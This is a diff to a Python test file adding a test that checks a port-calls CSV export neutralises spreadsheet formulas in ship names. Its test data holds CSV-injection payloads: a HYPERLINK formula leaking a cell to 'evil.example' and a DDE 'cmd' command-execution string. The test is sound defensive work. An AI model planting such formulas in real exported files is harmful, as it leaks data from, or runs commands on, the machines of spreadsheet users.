@@ -612,6 +612,23 @@ def test_port_call_display_and_file(tmp_path, calls):
     assert len(raw.decode("utf-8").splitlines()) == len(calls) + 1
 
 
+def test_port_calls_file_neutralises_formulas_from_ship_names(tmp_path, calls):
+    """A ship that broadcasts a spreadsheet formula as its name gets it written as text."""
+    import csv
+
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Angara")'
+    hostile = calls.assign(vessel=[evil, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "Maria"]
+                           * (len(calls) // 5) + ["Maria"] * (len(calls) % 5))
+    path = tmp_path / "calls.csv"
+    shuttle.write_port_calls(hostile, path, {"rajin_port": "Rajin"})
+    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
+    names = [r["vessel"] for r in rows]
+    assert names[:5] == ["'" + evil, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "Maria"]
+    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
+    # numbers stay numbers
+    assert all(r["call_id"].lstrip("-").isdigit() for r in rows)
+
+
 def test_describe_range():
     assert shuttle.describe_range(700, 1900, 1000) == "between the low and the high end"
     assert shuttle.describe_range(1200, 1900, 1000) == "below the low end"
